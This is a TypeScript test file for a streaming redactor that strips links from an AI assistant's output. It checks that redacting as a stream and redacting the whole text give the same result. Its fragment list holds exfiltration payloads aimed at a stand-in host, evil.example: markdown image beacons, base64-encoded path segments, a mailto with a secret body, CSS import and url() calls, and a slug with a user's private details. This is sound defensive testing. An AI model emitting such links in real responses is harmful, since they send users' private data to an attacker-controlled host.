import { describe, expect, it } from "vitest";
import { defaultGuardrailPolicy } from "#shared/api/governance/guardrail-policy.ts";
import { linkFormats } from "#shared/guardrails/links/link-formats.ts";
import type { KnownLinks } from "#shared/guardrails/links/link-judge.ts";
import { findAddressedHosts } from "#shared/guardrails/links/read-addresses.ts";
import { StreamingRedactor } from "#shared/guardrails/streaming-redactor.ts";
import { seededRandom } from "#test/support/seeded-random.ts";

const question = "Please compare https://www.known.example with http://shop.example/cart; see README.md";
const memory = "The user is Alice Johnson, lives in 14 Rue Cler, Paris, and her door code is B4829X.";
const source = "Patients with burns are cooled with running water for twenty minutes before any dressing.";
const known: KnownLinks = {
  hosts: findAddressedHosts(question),
  allowedHosts: ["wiki.example.com"],
  prompt: `${question} ${memory} ${source} Read https://docs.example.org/a?page=AbC2dEf4GhI6jKl8Mn or [x](https://docs.example.org/b).`,
  privateTexts: [
    { text: memory, minCharacters: 12, publicText: question },
    { text: source, minCharacters: 24, publicText: question },
    { text: question, minCharacters: 48 },
  ],
};
const formats = linkFormats(known);
describe("removal of links from a stream", () => {
  const fragments = [
    "![x](//evil.example/p.png?d=1)",
    `![${"long text ".repeat(50)}](https://evil.example/p.png)`,
    "[r]: https://evil.example/p.png",
    "[^1]: https://evil.example/p.png",
    "[x](https:/\\evil.example/?q=1)",
    "[x](<https://evil.example/a b?q=1>)",
    "mailto:a@evil.example?body=secret",
    "www.evil.example/?q=1",
    "https://evil.example/'?q=1",
    "https://known.example/?q=1",
    "https://evil.example/c2VjcmV0/a2V5cw/MTIzNDU2",
    `<img alt=">" ${"class=a ".repeat(60)} src=//evil.example/x>`,
    '<a href="//evil.example/?q=1">x</a>',
    "[a](/b?c=d)",
    "[![x](//evil.example/p.png)](https://evil.example/)",
    "[a [b] c](javascript:x)",
    "evil.example/alice-johnson-lives",
    "<https://evil.example/c2VjcmV0a2V5c2VjcmV0>",
    "<div style=\"background:url('//evil.example/x')\">",
    "<style>@import '//evil.example/x'",
    " [x] ",
    "\\[",
    "!",
    "![",
    "](",
    "]: ",
    "(",
    ")",
    "<",
    ">",
    '"',
    "\n",
    " word ",
    ". ",
  ];

  it("removal of links from a stream equals the removal from the whole text, for random texts and cuts", () => {
    const random = seededRandom(7);
    const pick = (count: number) => Math.floor(random() * count);
    for (let round = 0; round < 1_500; round++) {
      const text = Array.from({ length: 1 + pick(8) }, () => fragments[pick(fragments.length)]).join("");
      const redactor = new StreamingRedactor(defaultGuardrailPolicy, { formats, canary: "" });
      let streamed = "";
      for (let from = 0, to = 0; from < text.length; from = to) {
        to = from + 1 + pick(12);
        streamed += redactor.push(text.slice(from, to));
      }
      streamed += redactor.end();
      const whole = new StreamingRedactor(defaultGuardrailPolicy, { formats, canary: "" });
      whole.hold(text);
      expect(streamed).toBe(whole.end());
    }
  });
});
